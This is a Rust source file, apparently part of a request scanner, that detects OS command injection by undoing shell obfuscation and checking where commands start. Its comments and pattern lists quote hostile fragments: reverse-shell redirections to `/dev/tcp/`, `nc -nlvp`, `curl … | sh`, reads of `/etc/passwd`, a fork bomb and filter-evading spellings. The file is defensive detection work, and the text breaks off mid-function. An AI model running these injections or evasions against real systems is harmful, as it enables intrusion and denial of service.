//! OS command injection, read the way a shell reads it: the value is normalised the way the
//! shell would before running it (quotes and backslashes inside words removed, `${IFS}` as a
//! space, `$@` dropped, cmd.exe carets, ANSI-C `$'\x77'` escapes, `${HOME:0:1}` as `/`, see
//! [`normalize`]), then every command position — value start, after `;`, `|`, `&`, a
//! newline, `$(`, a backtick, a brace list, a URL query value — is checked for a known
//! command word (optionally with a path such as `/bin/`, `c:\windows\system32\` or a glob
//! like `/???/`, see [`glob`]). A command needs arguments that only a shell line has (options,
//! paths, redirections, a delay for `sleep`, a subcommand such as `net user`, a script for
//! an interpreter), unless it does something on its own (`id`), its name only exists in a
//! shell (`whoami`), or it was spelled to dodge a filter (`w'h'oami`, `/???/??t`): `cat food`
//! or `ping me` stays quiet. Shell grammar without a command word counts too: `$((…))`,
//! bash-only expansions, cmd.exe `for`/`if`, PowerShell `[Type]::Method(`, fork bombs, and
//! uploads named like configuration files (`.htaccess`, `.bashrc`).

mod commands;
mod glob;
mod normalize;

use aho_corasick::AhoCorasick;
use std::collections::HashMap;
use std::hash::BuildHasherDefault;
use std::sync::OnceLock;

use super::prefilter::{lit, lits, LitId, LitSet, Lits};
use super::words::Fnv;
use super::{AttackType, Detector, Finding};
use crate::point::Leaf;
use commands::{
    BARE, COMMANDS, DISTINCT, INTERPRETERS, NUMERIC, PREFIXES, START_BARE, SUBCOMMANDS, WINDOWS,
};

/// What a command word can do without help, looked up once per command position.
const F_BARE: u8 = 1;
const F_PREFIX: u8 = 2;
const F_START_BARE: u8 = 4;
const F_DISTINCT: u8 = 8;
const F_INTERPRETER: u8 = 16;
const F_NUMERIC: u8 = 32;
const F_WINDOWS: u8 = 64;
const F_SUBCOMMAND: u8 = 128;

type CommandMap = HashMap<&'static str, u8, BuildHasherDefault<Fnv>>;
use normalize::{normalize, Normalized};

/// Every command word with its flags.
fn commands() -> &'static CommandMap {
    static MAP: OnceLock<CommandMap> = OnceLock::new();
    MAP.get_or_init(|| {
        let mut m = CommandMap::default();
        for c in COMMANDS {
            m.insert(c, 0);
        }
        for (list, flag) in [
            (BARE, F_BARE),
            (PREFIXES, F_PREFIX),
            (START_BARE, F_START_BARE),
            (DISTINCT, F_DISTINCT),
            (INTERPRETERS, F_INTERPRETER),
            (NUMERIC, F_NUMERIC),
            (WINDOWS, F_WINDOWS),
        ] {
            for c in list {
                *m.entry(c).or_insert(0) |= flag;
            }
        }
        for (c, _) in SUBCOMMANDS {
            *m.entry(c).or_insert(0) |= F_SUBCOMMAND;
        }
        m
    })
}

fn flags(word: &str) -> u8 {
    commands().get(word).copied().unwrap_or(0)
}

/// `s` without leading spaces and tabs (and literal `+`, a form-encoded space, if `plus`).
/// Byte loops: these run at every command position, where `trim_start_matches` with a char
/// set showed up in profiles.
fn skip_blank(s: &str, plus: bool) -> &str {
    let n = s
        .bytes()
        .take_while(|&c| c == b' ' || c == b'\t' || plus && c == b'+')
        .count();
    &s[n..]
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
}

/// Longest command or directory name read at a command position.
const MAX_WORD: usize = 32;

/// Bytes of a command word or of a glob naming one: [`is_word`] plus `?*[]`.
static WORD_OR_GLOB: [bool; 256] = {
    let mut t = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        t[c] = b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'?' | b'*' | b'[' | b']');
        c += 1;
    }
    t
};

/// A command word found at a command position.
#[derive(Clone, Copy)]
struct Cmd {
    /// The word as written (after any path prefix), in the normalised text.
    start: usize,
    end: usize,
    /// Named through a glob (`c?t`, `/???/??t`) rather than spelled out.
    globbed: bool,
    /// Run by a tool that hands its argument to a shell (sqlite3's `.shell`).
    handed: bool,
    /// `F_*` flags of `name`.
    flags: u8,
    /// A cmd.exe option glued to the name (`dir/s`): the arguments have started.
    glued: bool,
}

impl Cmd {
    fn is(&self, flag: u8) -> bool {
        self.flags & flag != 0
    }
}

/// The command word starting at `i` (after an optional path prefix).
fn command_at(s: &str, i: usize) -> Option<Cmd> {
    command_at_depth(s, i, 0)
}

fn command_at_depth(s: &str, mut i: usize, depth: usize) -> Option<Cmd> {
    let b = s.as_bytes();
    // `+` too: a space in form encoding that survived as a literal.
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'(' | b'{' | b'!' | b'+') {
        i += 1;
    }
    // sqlite3's `.shell`/`.system` (`.sh`) dot commands hand the rest of the line to a shell.
    if depth < 2 && b.get(i) == Some(&b'.') {
        let dot = &s[i + 1..];
        let n = [".shell ", ".system ", ".sh "]
            .iter()
            .find(|d| dot.starts_with(&d[1..]))
            .map(|d| d.len());
        return n
            .and_then(|n| command_at_depth(s, i + n, depth + 1))
            .map(|c| Cmd { handed: true, ..c });
    }
    // Path prefix: `/bin/`, `/usr/local/bin/`, `/???/`, `c:\windows\system32\`. Words are
    // read at most [`MAX_WORD`] bytes far: no command or directory name is longer, and long
    // tokens (ids, base64) are what most values start with.
    let word_end = |from: usize| {
        from + b[from..]
            .iter()
            .take(MAX_WORD + 1)
            .take_while(|&&c| WORD_OR_GLOB[usize::from(c)])
            .count()
    };
    // `dir/s`, `ipconfig/all`: cmd.exe reads a `/` glued to a tool's name as its option.
    let first = word_end(i);
    if first - i > MAX_WORD {
        return None;
    }
    if b.get(first) == Some(&b'/') {
        let opt = b[first + 1..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic() || **c == b'?')
            .count();
        let after = b.get(first + 1 + opt);
        let f = flags(&s[i..first]);
        // Prose glues words with slashes too (`copy/paste`): a longer option needs a name
        // only a shell has.
        if f & F_WINDOWS != 0
            && (opt == 1 || opt == 2 || (3..=8).contains(&opt) && f & F_DISTINCT != 0)
            && after.is_none_or(|c| matches!(c, b' ' | b'\t' | b':' | b'/' | b'&' | b'|' | b'+'))
        {
            return Some(Cmd {
                start: i,
                end: first,
                globbed: false,
                handed: false,
                flags: f,
                glued: true,
            });
        }
    }
    let mut start = i;
    let mut pathed = false;
    let mut end = first;
    // `c:\windows\…`, `%systemroot%\…`: the root of a Windows path.
    let root = if b[i..].len() > 3 && b[i].is_ascii_alphabetic() && b[i + 1] == b':' {
        matches!(b[i + 2], b'\\' | b'/').then_some(i + 3)
    } else if b.get(i) == Some(&b'%') {
        memchr::memchr(b'%', &b[i + 1..b.len().min(i + 33)])
            .map(|c| i + 2 + c)
            .filter(|&c| b.get(c) == Some(&b'\\'))
            .map(|c| c + 1)
    } else {
        None
    };
    if let Some(r) = root {
        start = r;
        pathed = true;
        end = word_end(r);
    }
    while matches!(b.get(end), Some(b'/' | b'\\'))
        && end + 1 < b.len()
        && (end > start || start == i)
    {
        start = end + 1;
        pathed = true;
        end = word_end(start);
    }
    if end - start > MAX_WORD {
        return None;
    }
    // `python3.10`: a dotted version is part of the command word.
    while b.get(end) == Some(&b'.') && b.get(end + 1).is_some_and(u8::is_ascii_digit) {
        end = word_end(end + 1);
    }
    // `ping.exe`: the Windows executable suffix belongs to the word.
    if s[end..].starts_with(".exe") {
        end += 4;
    }
    let w = &s[start..end];
    if w.is_empty() {
        return None;
    }
    // Byte loops and a plain suffix test: `trim_end_matches` with a string pattern builds a
    // searcher per call, which showed up in profiles at this position.
    let stem = w.strip_suffix(".exe").unwrap_or(w);
    // `python3.10`, `gcc10.1`: a version glued to the name.
    let bare_len = stem.len()
        - stem
            .bytes()
            .rev()
            .take_while(|c| c.is_ascii_digit() || *c == b'.')
            .count();
    let bare = &stem[..bare_len];
    let found = commands().get(stem).copied().or_else(|| {
        (!bare.is_empty() && bare.len() < stem.len())
            .then(|| commands().get(bare).copied())
            .flatten()
    });
    if let Some(f) = found {
        // A prefix command hands over to the command it runs: `time whoami | sh`.
        if f & F_PREFIX != 0 && depth < 2 {
            if let Some(inner) = command_at_depth(s, end, depth + 1) {
                return Some(inner);
            }
        }
        return Some(Cmd {
            start,
            end,
            globbed: false,
            handed: false,
            flags: f,
            glued: false,
        });
    }
    if !w.bytes().any(|c| matches!(c, b'?' | b'*' | b'[')) {
        return None;
    }
    // A glob names a command only in a system directory (`/???/??t`) or with enough
    // letters spelled out (`c?t` is `cat`, `??` is anything).
    let name = if pathed {
        glob::resolve(&s.as_bytes()[i..end]).filter(|c| !c.starts_with('/'))
    } else if w.bytes().filter(u8::is_ascii_alphanumeric).count() >= 2 {
        COMMANDS
            .iter()
            .find(|c| glob::glob(w.as_bytes(), c.as_bytes()))
            .copied()
    } else {
        None
    };
    name.map(|c| Cmd {
        start,
        end,
        globbed: true,
        handed: false,
        flags: flags(c),
        glued: false,
    })
}

/// How far past a command its arguments are read: enough for any real argument list, and it
/// keeps a value with thousands of separators linear rather than quadratic.
const ARGS_WINDOW: usize = 256;

/// Does what follows a command look like shell arguments?
fn shell_args(rest: &str) -> bool {
    let mut cut = rest.len().min(ARGS_WINDOW);
    while !rest.is_char_boundary(cut) {
        cut -= 1;
    }
    let rest = &rest[..cut];
    // A single literal `+` is a space that survived form encoding (`cat+/etc/passwd`).
    let plus = rest.starts_with('+') && !rest.starts_with("++");
    let rest = if plus { &rest[1..] } else { rest };
    let r = skip_blank(rest, false);
    if r.is_empty() {
        return false;
    }
    let rb = r.as_bytes();
    let at_start = plus || rest.starts_with([' ', '\t', '<', '>', '|', ';', '&']);
    at_start
        // `/etc/passwd`, `/`: a path, not a spaced slash of prose (`CD / DVD`).
        && (r.starts_with('/') && !r[1..].starts_with(' ')
            // A separator right after the command ends it (`bash;` has no argument); a pipe
            // feeds another command.
            || r.starts_with(['$', '<', '`', '~', '%', '|'])
            // `2>&1`, `0>$d/tcp`: a file-descriptor redirection.
            || rb[0].is_ascii_digit() && matches!(rb.get(1), Some(b'>' | b'<'))
            // `chmod +x`, `vim +silent`: plus-options.
            || r.starts_with('+') && rb.get(1).is_some_and(u8::is_ascii_alphabetic)
            || r.starts_with('-') && rb.get(1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-')
            // `kill -9 1`, `head -5 x`: a numeric option, ended like a word.
            || r.starts_with('-') && {
                let n = rb[1..].iter().take_while(|c| c.is_ascii_digit()).count();
                n > 0 && rb.get(1 + n).is_none_or(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&'))
            }
            || r.starts_with('>') && !r.starts_with("> ")
            || r.starts_with("./")
            // `dir c:`, `type c:\boot.ini`: a drive path.
            || rb.len() >= 2
                && rb[0].is_ascii_alphabetic()
                && rb[1] == b':'
                && rb.get(2).is_none_or(|c| matches!(c, b'\\' | b'/' | b' ' | b'+' | b'|'))
            || r.contains("/dev/")
            // `echo '<?php …'>x.php`: output redirected into a file glued to the argument.
            || r.as_bytes().windows(3).any(|w| {
                matches!(w[0], b'\'' | b'"' | b')')
                    && w[1] == b'>'
                    && (w[2].is_ascii_alphanumeric() || matches!(w[2], b'/' | b'~' | b'.' | b'>'))
            })
            || r.contains("http://")
            || r.contains("https://")
            || r.as_bytes().windows(3).any(|w| {
                w[0] == b' ' && matches!(w[1], b'-' | b'+') && w[2].is_ascii_alphabetic()
            }))
}

/// The first argument after a command word: `rest` without its leading blanks (and a literal
/// `+`), up to the next blank or separator.
fn first_arg(rest: &str) -> &str {
    let r = skip_blank(rest, true);
    let n = r
        .bytes()
        .take_while(|c| {
            !matches!(
                c,
                b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n' | b'`' | b')'
            )
        })
        .count();
    &r[..n]
}

/// Arguments that make a command line out of a command word even though they look like
/// prose words: a delay for `sleep`, a script file for an interpreter, a subcommand of a tool
/// whose name is a common word (`net user`). `alone`: the value must end after them (for a
/// value that starts with the command, where prose is likelier than after a separator).
fn telling_args(cmd: &Cmd, name: &str, rest: &str, alone: bool) -> bool {
    if !rest.starts_with([' ', '\t', '+']) {
        return false;
    }
    // Bounded like [`shell_args`]: it runs at every command position.
    let mut cut = rest.len().min(ARGS_WINDOW);
    while !rest.is_char_boundary(cut) {
        cut -= 1;
    }
    let rest = &rest[..cut];
    let arg = first_arg(rest);
    if arg.is_empty() {
        return false;
    }
    let after = &skip_blank(rest, true)[arg.len()..];
    let ends = after.trim_start_matches([' ', '+', '\t']).is_empty()
        || after.starts_with([';', '|', '&', '\n', '`', ')']);
    if cmd.is(F_NUMERIC) && arg.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
        return !alone || ends;
    }
    // `bash x.sh`, `python exploit.py`: an interpreter running a script file.
    if cmd.is(F_INTERPRETER) {
        let ext = arg
            .rsplit_once('.')
            .map_or("", |(stem, e)| if stem.is_empty() { "" } else { e });
        if matches!(
            ext,
            "sh" | "bash" | "py" | "pl" | "rb" | "php" | "js" | "lua" | "ps1" | "bat" | "vbs"
        ) {
            return true;
        }
    }
    if cmd.is(F_SUBCOMMAND) {
        let known = SUBCOMMANDS
            .iter()
            .find(|(c, _)| *c == name)
            .is_some_and(|(_, subs)| subs.contains(&arg));
        return known && (!alone || ends || after.contains(" /") || after.contains(" -"));
    }
    false
}

/// `iex(…)`, `invoke-expression(…)`: a PowerShell command called with its argument in
/// parentheses.
fn powershell_call(name: &str, rest: &str) -> bool {
    rest.starts_with('(') && (name.contains('-') || matches!(name, "iex" | "iwr" | "irm"))
}

/// Fragments that only a shell command line contains.
const STRONG: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "cmd /c",
    "powershell -",
    "%comspec%",
    "$(",
    "<(",
    ">(",
    "$((",
    "${ifs}",
    "$shell ",
    "${shell}",
    // gawk's network special files: `awk 'BEGIN{s="/inet/tcp/0/host/port"…}'`.
    "/inet/tcp/",
    "/inet/udp/",
];

pub struct Rce {
    strong: AhoCorasick,
    strong_gate: Lits,
    /// cmd.exe `FOR [/D|/R|/L|/F ["opts"]] %v IN (set) DO command`: its own grammar, with
    /// no command word at the front.
    for_loop: regex::bytes::Regex,
    for_gate: Lits,
    /// Other shell grammar with no command word up front, each behind a literal gate.
    grammar: Vec<(Lits, regex::bytes::Regex, &'static str)>,
    /// `f(){ f & f; };f`: a function defined and called, checked further in code.
    function: regex::bytes::Regex,
    function_gate: LitId,
    bin_gate: LitId,
    url_gate: LitId,
    /// Bytes [`normalize`] undoes: without any, the value is its own normal form.
    norm_gate: Lits,
    /// Separators that start a command (see [`Rce::after_separators`]).
    sep_gate: Lits,
    /// Glob characters (see [`globbed_path`]).
    glob_gate: Lits,
}

/// cmd.exe `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL x cmd`, `IF a==b cmd` and a comparison of a
/// batch parameter (`if "%1"=="/?"`); `AT 2:00 "cmd"`; bash `alias a=…`.
const GRAMMAR: &[(&[&str], &str, &str)] = &[
    (
        &["if"],
        r"(?:^|[\s;&|(])if\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S+|\S+\s*(?:==+|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*\S+)\s+(?:\(|@?[a-z]+)",
        "cmd.exe if statement",
    ),
    (
        &["if"],
        r#"(?:^|[\s;&|(])if\s+(?:/i\s+)?(?:not\s+)?["{\[(]?%~?[0-9a-z_]+%?["}\])]?\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)"#,
        "cmd.exe if on a batch parameter",
    ),
    (
        // Gated on the separator: `at` alone is in half the words of a language.
        &[";at", "; at", "&at", "& at", "|at", "| at"],
        r#"[;&|]\s*at\s+(?:\\\\\S+\s+)?\d{1,2}:\d{2}(?:\s+/[a-z]+(?::\S+)?)*\s+(?:["']|cmd\b|powershell\b)"#,
        "cmd.exe scheduled command",
    ),
    (
        &["alias"],
        r#"(?:^|[\s;&|])alias\s+(?:[+-][a-z]+\+?\s+)*(?:[^\s=;&|'"]+|'[^'\s=]+'|"[^"\s=]+")="#,
        "shell alias definition",
    ),
    // `${path##*:}`, `${home:0:1}`, `${#x}`, `${!x}`: parameter expansions with operators only
    // bash has (templates write `${name}` and `${name:-default}`; JavaScript's `%` and `/`
    // stay out), and `$[1+1]`, the old arithmetic expansion.
    (
        &["${", "$["],
        r"\$\{(?:[#!][a-z_][a-z0-9_]*\}|[a-z_][a-z0-9_]*(?:##?|%%|//|:\d+:\d+\}|:\d+\}|\^\^|,,))|\$\[\s*\d+\s*[-+*/%]\s*\d+\s*\]",
        "shell parameter expansion",
    ),
    // `[System.Diagnostics.Process]::Start('calc')`, `[IO.File]::ReadAllText(…)`: PowerShell
    // calling a .NET static method; C# and Java write no brackets around the type.
    (
        &["]::"],
        r"\[(?:system\.)?[a-z]+(?:\.[a-z]+)*\]::[a-z]+\s*\(",
        "powershell .net call",
    ),
];

/// Assignments `name=` at a command position, collected once per value (a few suffice).
struct Assigned<'a>([&'a str; 4], usize);

impl<'a> Assigned<'a> {
    fn collect(s: &'a str) -> Self {
        let mut a = Assigned([""; 4], 0);
        let b = s.as_bytes();
        for (p, _) in s.match_indices('=') {
            if a.1 == a.0.len() {
                break;
            }
            let start = b[..p]
                .iter()
                .rposition(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
                .map_or(0, |q| q + 1);
            let at_command = start == 0
                || matches!(
                    b[start - 1],
                    b';' | b'&' | b'|' | b'\n' | b' ' | b'(' | b'`'
                );
            if start < p && at_command && !b[start].is_ascii_digit() {
                a.0[a.1] = &s[start..p];
                a.1 += 1;
            }
        }
        a
    }

    fn has(&self, name: &str) -> bool {
        self.0[..self.1].contains(&name)
    }
}

/// Markdown code fences (```` ``` ```` at a line start, closed the same way): documentation
/// inside prose, not command substitution. A few blocks are remembered per value.
struct Fences([(usize, usize); 4], usize);

impl Fences {
    fn find(s: &str) -> Self {
        let mut f = Fences([(0, 0); 4], 0);
        if memchr::memchr(b'`', s.as_bytes()).is_none() || !s.contains("```") {
            return f;
        }
        let b = s.as_bytes();
        let mut open: Option<usize> = None;
        for (p, _) in s.match_indices("```") {
            if f.1 == f.0.len() {
                break;
            }
            let line_start = b[..p]
                .iter()
                .rev()
                .take_while(|&&c| c != b'\n')
                .all(|&c| c == b' ');
            // The first line of the value must be prose: a fence opening the value is not
            // markdown anyone sends.
            if !line_start || !s[..p].contains('\n') && open.is_none() {
                continue;
            }
            match open {
                None => open = Some(p),
                Some(o) if p > o + 3 => {
                    f.0[f.1] = (o, p + 3);
                    f.1 += 1;
                    open = None;
                }
                Some(_) => {}
            }
        }
        f
    }

    fn contains(&self, i: usize) -> bool {
        self.0[..self.1].iter().any(|&(a, b)| (a..b).contains(&i))
    }
}

impl Rce {
    pub fn new() -> Self {
        Rce {
            // Leftmost-longest: `$((` must win over the `$(` it starts with.
            strong: AhoCorasick::builder()
                .match_kind(aho_corasick::MatchKind::LeftmostLongest)
                .build(STRONG)
                .expect("static pattern list builds"),
            strong_gate: lits(STRONG),
            for_loop: regex::bytes::Regex::new(
                r#"(?-u)(?:^|[\s;&|(])for\s+(?:/[dlrf]\s+|"[^"]*"\s+|[a-z]:\\\S*\s+)*%%?\S+\s+in\s*\([^)]*\)\s*do\b"#,
            )
            .expect("static pattern compiles"),
            for_gate: lits(&["for"]),
            grammar: GRAMMAR
                .iter()
                .map(|(gate, re, why)| {
                    let re = regex::bytes::Regex::new(&format!("(?-u){re}"))
                        .expect("static pattern compiles");
                    (lits(gate), re, *why)
                })
                .collect(),
            function: regex::bytes::Regex::new(
                r"(?-u)([a-z0-9_:.]+)\s*\(\s*\)\s*\{([^}]{1,128})\}\s*;?\s*([a-z0-9_:.]+)",
            )
            .expect("static pattern compiles"),
            function_gate: lit("()"),
            bin_gate: lit("bin/"),
            url_gate: lit("://"),
            norm_gate: lits(&["$", "'", "\"", "\\", "`", "^", "()"]),
            sep_gate: lits(&[";", "|", "&", "\n", "\r", "`", "$("]),
            glob_gate: lits(&["?", "*", "["]),
        }
    }

    fn analyse(&self, s: &str, present: &LitSet) -> Option<(usize, usize, &'static str)> {
        let strong = present.any(&self.strong_gate);
        let for_loop = present.any(&self.for_gate);
        for m in strong
            .then(|| self.strong.find_iter(s))
            .into_iter()
            .flatten()
        {
            let p = m.start();
            let construct = STRONG[m.pattern().as_usize()];
            if !matches!(construct, "$(" | "<(" | ">(") || command_at(s, m.end()).is_some() {
                return Some((p, (p + 48).min(s.len()), "shell construct"));
            }
        }
        // Shellshock: bash imports `() {`-prefixed environment values as functions.
        let t = s.trim_start_matches(|c: char| c.is_ascii_whitespace());
        if let Some(r) = t.strip_prefix('(') {
            let r = skip_blank(r, false);
            if r.starts_with(')') && skip_blank(&r[1..], false).starts_with('{') {
                let p = s.len() - t.len();
                return Some((p, (p + 48).min(s.len()), "shell function import"));
            }
        }
        if for_loop && s.contains('%') {
            if let Some(m) = self.for_loop.find(s.as_bytes()) {
                return Some((m.start(), m.end(), "cmd.exe for loop"));
            }
        }
        for (gate, re, why) in &self.grammar {
            if present.any(gate) {
                if let Some(m) = re.find(s.as_bytes()) {
                    return Some((m.start(), m.end(), why));
                }
            }
        }
        if present.has(self.function_gate) {
            if let Some(at) = self.recursive_function(s) {
                return Some((at.0, at.1, "shell recursive function"));
            }
        }
        let n = normalize(s, present.any(&self.norm_gate));
        // Normalising can only create `bin/` (`b'i'n/`) when it changed the text.
        let bin = present.has(self.bin_gate) || n.changed();
        let s = n.text.as_ref();
        if let Some(p) = bin.then(|| system_path(s)).flatten() {
            return Some((p, (p + 48).min(s.len()), "command by system path"));
        }
        if let Some(p) = present
            .any(&self.glob_gate)
            .then(|| globbed_path(s))
            .flatten()
        {
            return Some((p, (p + 48).min(s.len()), "globbed system path"));
        }
        if let Some(end) = value_start(&n, 0, s.len()) {
            return Some((0, (end + 48).min(s.len()), "command with shell arguments"));
        }
        // A URL (a Referer, a redirect target): each query value starts like a value.
        if s.starts_with('/') || present.has(self.url_gate) {
            if let Some(q) = s.find('?') {
                let mut tries = 0;
                for (p, _) in s[q..].match_indices('=') {
                    let from = q + p + 1;
                    let to = s[from..].find(['&', '#']).map_or(s.len(), |e| from + e);
                    if let Some(end) = value_start(&n, from, to) {
                        return Some((from, (end + 48).min(s.len()), "command in a url query"));
                    }
                    tries += 1;
                    if tries == 16 {
                        break;
                    }
                }
            }
        }
        if !present.any(&self.sep_gate) {
            return None;
        }
        self.after_separators(&n)
    }

    /// `:(){ :|:& };:`, `f(){ f & f; };f`: a function whose body forks calls of itself in
    /// the background or through a pipe, then called — the fork bomb.
    fn recursive_function(&self, s: &str) -> Option<(usize, usize)> {
        let c = self.function.captures(s.as_bytes())?;
        let name = c.get(1)?.as_bytes();
        let body = c.get(2)?.as_bytes();
        let call = c.get(3)?.as_bytes();
        let forks = body.iter().any(|&b| b == b'&' || b == b'|');
        let recursive = body.windows(name.len()).any(|w| w == name);
        let m = c.get(0)?;
        (forks && recursive && call.starts_with(name)).then_some((m.start(), m.end()))
    }

    /// Commands after `;`, `|`, `&`, a newline, a backtick or `$(`.
    fn after_separators(&self, n: &Normalized) -> Option<(usize, usize, &'static str)> {
        let s = n.text.as_ref();
        let b = s.as_bytes();
        // Counted once, and only when a code span needs it: per separator it made long values
        // quadratic.
        let mut prose: Option<bool> = None;
        let fences = Fences::find(s);
        let assigned = if s.contains('=') {
            Assigned::collect(s)
        } else {
            Assigned([""; 4], 0)
        };
        for i in 0..b.len() {
            let mut sep = match b[i] {
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
                b'$' if b.get(i + 1) == Some(&b'(') => i + 2,
                _ => continue,
            };
            // Markdown code spans in prose (`use `ls -la` to…`) are not command substitution.
            if b[i] == b'`'
                && i > 0
                && b[i - 1] == b' '
                && *prose.get_or_insert_with(|| memchr::memchr_iter(b' ', b).nth(3).is_some())
            {
                continue;
            }
            if fences.contains(i) {
                continue;
            }
            // `&amp;`, `&&`, `||`: skip doubled separators; `&amp;` style text is not shell.
            if b.get(sep).is_some_and(|&c| c == b[i] && c != b'`') {
                sep += 1;
            }
            if b[i] == b'&'
                && b.get(sep).is_some_and(|c| c.is_ascii_alphabetic())
                && s[sep..]
                    .split(|c: char| !c.is_ascii_alphanumeric())
                    .next()
                    .is_some_and(|w| s[sep + w.len()..].starts_with(';'))
            {
                continue;
            }
            // Variables at the command position: one assigned earlier in the value holds the
            // command (`a=nc&&$a -nlvp 555`); an unset one expands to nothing, so the word
            // after it is the command (`;$a cat $a/etc/passwd`).
            let mut at = sep;
            let mut spacers = 0;
            while spacers < 4 {
                let p = at + b[at..].iter().take_while(|&&c| c == b' ').count();
                if b.get(p) != Some(&b'$') {
                    break;
                }
                let name_len = b[p + 1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                let name = &s[p + 1..p + 1 + name_len];
                let after = p + 1 + name_len;
                if name_len == 0 {
                    break;
                }
                if assigned.has(name) {
                    return Some((i, (after + 48).min(s.len()), "variable as command"));
                }
                if !b.get(after).is_some_and(|&c| c == b' ' || c == b'\t') {
                    break;
                }
                at = after;
                spacers += 1;
            }
            let word = at + b[at..].iter().take_while(|&&c| c == b' ').count();
            // `;$env:username`: PowerShell's environment drive.
            if s[word..].starts_with("$env:") {
                return Some((i, (word + 48).min(s.len()), "command after shell separator"));
            }
            // `;{cat,/etc/passwd}`: a brace list expanding to a command line.
            if b.get(word) == Some(&b'{') && brace_command(&s[word..]).is_some() {
                return Some((i, (word + 64).min(s.len()), "command after shell separator"));
            }
            let Some(cmd) = command_at(s, at) else {
                continue;
            };
            let end = cmd.end;
            let rest = &s[end..];
            let name = s[cmd.start..end]
                .strip_suffix(".exe")
                .unwrap_or(&s[cmd.start..end]);
            let ps_call = powershell_call(name, rest);
            let closes = rest.is_empty()
                || cmd.glued
                || ps_call
                || rest.starts_with('+') && !rest.starts_with("++")
                || rest.starts_with([' ', '\t', ';', '|', '&', '`', ')', '\n', '<', '>', '}', ',']);
            if !closes {
                continue;
            }
            let after = skip_blank(rest, true);
            let no_args =
                after.is_empty() || after.starts_with([';', '|', '&', '`', ')', '\n', '\r', '#']);
            let interpreter = cmd.is(F_INTERPRETER);
            // `(sh)0>$d/tcp/…`: a subshell's redirection is its argument list.
            let redirected = rest.strip_prefix(')').is_some_and(|r| {
                let r = r.trim_start_matches(|c: char| c.is_ascii_digit());
                r.starts_with(['<', '>'])
            });
            let args = redirected
                || cmd.glued
                || ps_call
                || telling_args(&cmd, name, rest, false)
                || shell_args(rest) && !(interpreter && rest.starts_with('|'));
            // `curl -s x | sh`: an interpreter reading the script a command line pipes in
            // (a list like `python|ruby` pipes nothing).
            let fed = interpreter && b[i] == b'|' && no_args && {
                let before = &s[..i];
                let from = before
                    .rfind([';', '|', '&', '\n', '`'])
                    .map_or(0, |p| p + 1);
                before[from..].trim().contains(' ')
            };
            // Without arguments a command does nothing worth injecting unless it reports on
            // its own (`id`), or it is an interpreter fed by a pipe (`… | sh`).
            let ok = cmd.is(F_BARE)
                || args
                // A name only a shell has, with arguments (`; ansible-doc plugin ping`).
                || cmd.is(F_DISTINCT) && !no_args
                || n.obfuscated(cmd.start, end)
                || cmd.globbed
                || cmd.handed
                || fed
                // Command substitution itself is shell syntax.
                || !interpreter && matches!(b[i], b'`' | b'$');
            if ok {
                return Some((i, (end + 48).min(s.len()), "command after shell separator"));
            }
        }
        None
    }
}

/// A command at the start of `s[from..to]` that reads as a command line: with shell-looking
/// arguments, handed over by a prefix command, obfuscated, named by a glob or a brace list,
/// or one whose name exists only in a shell. Returns the end of the command word.
fn value_start(n: &Normalized, from: usize, to: usize) -> Option<usize> {
    let s = &n.text[..to];
    if let Some(end) = brace_command(&s[from..]) {
        return Some(from + end);
    }
    let cmd = command_at(s, from)?;
    let rest = &s[cmd.end..];
    let word0 = skip_blank(&s[from..], true);
    // `time curl x`, `nohup whoami`: a prefix command handing over to another command
    // is two command words in a row, which prose does not produce.
    let prefixed = !cmd.is(F_PREFIX)
        && word0
            .split([' ', '\t'])
            .next()
            .is_some_and(|w| flags(w) & F_PREFIX != 0);
    let closes = rest.is_empty() || rest.starts_with([' ', '\t', '+', '\n', ';', '|', '&']);
    let alone = rest.trim().is_empty();
    let interpreter = cmd.is(F_INTERPRETER);
    let name = s[cmd.start..cmd.end]
        .strip_suffix(".exe")
        .unwrap_or(&s[cmd.start..cmd.end]);
    let ok = shell_args(rest) && !(interpreter && rest.starts_with('|'))
        || cmd.glued
        || powershell_call(name, rest)
        || telling_args(&cmd, name, rest, true)
        || prefixed
        // `id;`, `ls|`: a command that acts alone, ended by a separator.
        || cmd.is(F_BARE) && rest.starts_with([';', '|', '&', '`'])
        || cmd.is(F_START_BARE) && alone
        || closes && (n.obfuscated(cmd.start, cmd.end) || cmd.globbed)
        // `ansible-playbook site.yml`, `visudo`: a name only a shell has, with anything after.
        || cmd.is(F_DISTINCT) && !alone && rest.starts_with([' ', '\t', '+']);
    ok.then_some(cmd.end)
}

/// `{,ip,a}`, `{l,-lh}s`, `{,/?s?/?i?/c?t,/e??/p??s??,}`: bash expands a brace list into
/// words before running them, so the first word is a command and the rest its arguments.
fn brace_command(s: &str) -> Option<usize> {
    let (words, suffix) = glob::brace_words(s)?;
    let mut words = words
        .into_iter()
        .filter(|w| !w.is_empty() || !suffix.is_empty());
    let first = words.next()?;
    // ANSI-C quoting `$'whoami'` is the word itself (normalisation already dropped the
    // quotes glued to it).
    let first = first.trim_start_matches('$').trim_matches('\'');
    let has_args = words.next().is_some();
    let word = format!("{first}{suffix}");
    let cmd = command_at(&word, 0)?;
    let whole = cmd.end == word.len();
    (whole && (has_args || cmd.is(F_BARE) || cmd.globbed)).then_some(s.len().min(64))
}

/// `/bin/sleep 31`, `/usr/bin/id`: a known command spelled with its system directory.
fn system_path(s: &str) -> Option<usize> {
    for (p, _) in s.match_indices("bin/") {
        let dir_ok = s[..p].ends_with("/s") || s[..p].ends_with('/');
